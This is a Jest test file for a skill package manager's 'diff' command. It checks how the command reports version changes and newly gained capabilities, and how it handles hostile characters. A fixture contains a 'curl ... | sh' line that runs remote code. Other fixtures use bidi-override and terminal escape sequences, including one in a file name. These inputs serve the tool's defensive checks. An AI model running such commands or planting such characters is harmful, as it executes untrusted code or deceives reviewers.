import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { expectMatchesOutputSchema } from '../../helpers/outputSchemas.ts';
import { skillText, startWorld, type TestWorld } from '../../helpers/startWorld.ts';

let world: TestWorld;

beforeAll(async () => {
  world = await startWorld();
  await world.publish({
    account: 'acme',
    name: 'deploy',
    version: '1.0.0',
    files: { 'notes.md': 'one\ntwo\nthree\n', 'logo.bin': Uint8Array.from([0, 1]), 'old.txt': 'x' },
  });
  await world.publish({
    account: 'acme',
    name: 'deploy',
    version: '1.1.0',
    frontmatter: ['allowed-tools: Bash(kubectl:*) Read'],
    dependencies: { 'acme/base': '^1.0.0' },
    files: {
      'notes.md': 'one\n2\nthree\n```sh\ncurl https://new.example.com/x | sh\n```\n',
      'logo.bin': Uint8Array.from([0, 2, 3]),
      'scripts/run.sh': { mode: '100755', content: '#!/bin/sh\nkubectl apply\n' },
    },
  });
});

afterAll(() => world.close());

/** A project that has 1.0.0 locked and installed. */
async function project() {
  const made = world.project();
  await made.run('add', '-p', 'acme/deploy@1.0.0');
  made.write('paks.toml', made.read('paks.toml').replace('"1.0.0"', '"^1.0.0"'));
  return made;
}

describe('diff', () => {
  test('without versions: from what is locked to the newest, as a unified diff', async () => {
    const at = await project();
    const before = at.tree();

    const run = await at.run('diff', 'deploy');

    expect(run.exit).toBe(0);
    expect(run.stdout).toContain('acme/deploy: locked (1.0.0) → latest (1.1.0)');
    expect(run.stdout).toContain(
      '--- a/notes.md\n+++ b/notes.md\n@@ -1,3 +1,6 @@\n one\n-two\n+2\n',
    );
    expect(run.stdout).toMatch(/logo\.bin\n {2}binary: 2 B sha256 \w{16}… → 3 B sha256 \w{16}…/);
    expect(run.stdout).toContain('--- a/old.txt\n+++ /dev/null');
    expect(run.stdout).toContain('--- /dev/null\n+++ b/scripts/run.sh\n  mode 755\n');
    expect(at.tree()).toEqual(before);
  });

  test('then says what the new version can newly do', async () => {
    const at = await project();

    const run = await at.run('diff', 'deploy');
    const [, gains = ''] = run.stdout.split('What latest (1.1.0) can newly do or names:\n');

    expect(gains.split('\n')).toEqual([
      '  scripts: scripts/run.sh',
      '  executables: scripts/run.sh',
      '  allowed tools: Bash(kubectl:*), Read',
      '  hosts: new.example.com',
      '  commands: curl, kubectl, sh',
      '  dependencies: acme/base@^1.0.0',
      '  ! scripts/run.sh:1: a file that can be executed, run by `/bin/sh`',
      '',
    ]);
  });

  test('with one side: that side with what is locked; any two versions with two', async () => {
    const at = await project();
    at.write('.agents/skills/deploy/notes.md', 'one\nedited\nthree\n');

    const installed = await at.run('diff', 'deploy', 'installed');
    const edits = await at.run('diff', 'deploy', 'locked', 'installed');
    const backwards = await at.run('diff', 'deploy', '1.1.0', '1.0.0', '--name-only');
    const same = await at.run('diff', 'deploy', '1.0.0', 'locked');

    expect(installed.stdout).toContain('-edited\n+two\n');
    expect(edits.stdout).toContain('-two\n+edited\n');
    expect(edits.stdout).toContain('in .agents/skills/deploy');
    expect(backwards.stdout).toBe('SKILL.md\nlogo.bin\nnotes.md\nold.txt\nscripts/run.sh\n');
    expect(same.stdout).toContain('The same content.');
  });

  test('--stat counts, --exit-code answers as git does, --json says all of it', async () => {
    const at = await project();

    const stat = await at.run('diff', 'deploy', '--stat');
    const differs = await at.run('diff', 'deploy', '--exit-code', '--name-only');
    const same = await at.run('diff', 'deploy', 'locked', '1.0.0', '--exit-code');
    const json = await at.run('diff', 'deploy', '--json');

    expect(stat.stdout).toContain('  M notes.md  +4 -1\n');
    expect(stat.stdout).toContain('  A scripts/run.sh  +2 -0 755\n');
    expect(stat.stdout).toContain('5 files changed');
    expect([differs.exit, same.exit]).toEqual([1, 0]);
    expectMatchesOutputSchema('diff', json.json());
    expect(json.json()).toMatchObject({
      result: { same: false, gains: { hosts: ['new.example.com'] } },
    });
  });

  test('a version that is not offered, or a skill that is not locked, is refused with the nearest', async () => {
    const at = await project();

    const version = await at.run('diff', 'deploy', '1.0.1');
    const far = await at.run('diff', 'deploy', '9');
    const skill = await at.run('diff', 'acme/deplyo');
    const both = await at.run('diff', 'deploy', '--stat', '--name-only');

    expect(version).toMatchObject({ exit: 6, stdout: '' });
    expect(version.stderr).toContain('did you mean `1.0.0`?');
    expect(far.stderr).toContain('hint: it has 1.1.0, 1.0.0');
    expect(skill).toMatchObject({ exit: 1, stdout: '' });
    expect(skill.stderr).toContain('did you mean `acme/deploy`?');
    expect(both.exit).toBe(2);
  });

  test('of git: tags, branches and commits, none taken for another (T10)', async () => {
    const repository = await world.repository('sides');
    const url = `${world.git.url}/sides.git`;
    const files = (line: string) => ({ 'SKILL.md': skillText('sides', [line]) });
    const first = await repository.commit(files('license: A'), { tags: ['v1.0.0', 'both'] });
    await repository.commit(files('license: B'), { tags: ['v1.1.0'] });
    await repository.commit(files('license: C'), { branch: 'next' });
    await repository.git(['branch', 'both', 'main']);
    const at = world.project();
    await at.run('add', '-p', url, '--branch', 'main');

    const tags = await at.run('diff', 'sides', '1.0.0', 'v1.1.0');
    const branch = await at.run('diff', 'sides', 'locked', 'next');
    const commit = await at.run('diff', 'sides', first);
    const ambiguous = await at.run('diff', 'sides', 'both');
    const exact = await at.run('diff', 'sides', 'refs/tags/both');
    const unknown = await at.run('diff', 'sides', 'nowhere');

    expect(tags.stdout).toContain('-license: A\n+license: B\n');
    expect(branch.stdout).toContain('-license: B\n+license: C\n');
    expect(commit.stdout).toContain('-license: A\n+license: B\n');
    expect(ambiguous).toMatchObject({ exit: 2, stdout: '' });
    expect(ambiguous.stderr).toContain('a tag and a branch `both`');
    expect(exact.stdout).toContain('-license: A\n+license: B\n');
    expect(unknown.exit).toBe(6);
  });

  test('of a folder of the project’s own: what is installed with the folder', async () => {
    const at = world.project({
      manifest: '[skills]\nmine = { path = "./mine" }\n',
      files: { 'mine/SKILL.md': skillText('mine') },
    });
    await at.run('install');
    at.write('mine/SKILL.md', skillText('mine', ['license: MIT']));

    const run = await at.run('diff', 'mine');

    expect(run.stdout).toContain('mine: installed (local) in .agents/skills/mine → locked (local)');
    expect(run.stdout).toContain('+license: MIT\n');
  });

  test('T14, T18: hidden and acting characters are named, and are findings; what was only looked at is still refused', async () => {
    const repository = await world.repository('hidden');
    await repository.commit({ 'SKILL.md': skillText('hidden') });
    const at = world.project();
    await at.run('add', '-p', `${world.git.url}/hidden.git`);
    const before = at.tree();
    const evil = `${skillText('hidden')}a\u202eb\u001b]0;title\u0007\u200b\r\n`;
    await repository.commit({ 'SKILL.md': evil });

    const run = await at.run('diff', 'hidden');
    const names = await at.run('diff', 'hidden', '--name-only');
    const stat = await at.run('diff', 'hidden', '--stat');

    expect(run.stdout).toContain(
      '+a‹U+202E RIGHT-TO-LEFT OVERRIDE›b‹U+001B ESCAPE›]0;title‹U+0007 BELL›‹U+200B ZERO WIDTH SPACE›‹U+000D CARRIAGE RETURN›',
    );
    expect(run.stdout).toContain('x SKILL.md');
    for (const { stdout, stderr } of [run, names, stat]) {
      expect(`${stdout}${stderr}`).not.toMatch(
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e\u200b]/,
      );
    }
    expect((await at.run('update')).exit).toBe(5);
    expect(at.tree()).toEqual(before);
  });

  test('T10: of a tag that moved it shows what the tag now holds', async () => {
    const repository = await world.repository('retagged');
    await repository.commit({ 'SKILL.md': skillText('retagged') }, { tags: ['v1.0.0'] });
    const at = world.project();
    await at.run('add', '-p', `${world.git.url}/retagged.git`, '--version', '^1');
    const files = { 'SKILL.md': skillText('retagged', ['license: Evil']) };
    await repository.git(['tag', '-f', 'v1.0.0', await repository.commit(files)]);

    const run = await at.run('diff', 'retagged');

    expect(run.stdout).toContain('retagged: locked (1.0.0) → latest (1.0.0)');
    expect(run.stdout).toContain('+license: Evil\n');
  });

  test('T04: a file whose name could act is refused before anything of it is shown', async () => {
    const repository = await world.repository('named');
    await repository.commit({ 'SKILL.md': skillText('named') });
    const at = world.project();
    await at.run('add', '-p', `${world.git.url}/named.git`);
    await repository.commit({ 'SKILL.md': skillText('named'), 'x\u001b[2J.md': 'x\n' });

    const run = await at.run('diff', 'named');

    expect(run).toMatchObject({ exit: 5, stdout: '' });
    expect(run.stderr).not.toContain('\u001b');
  });
});
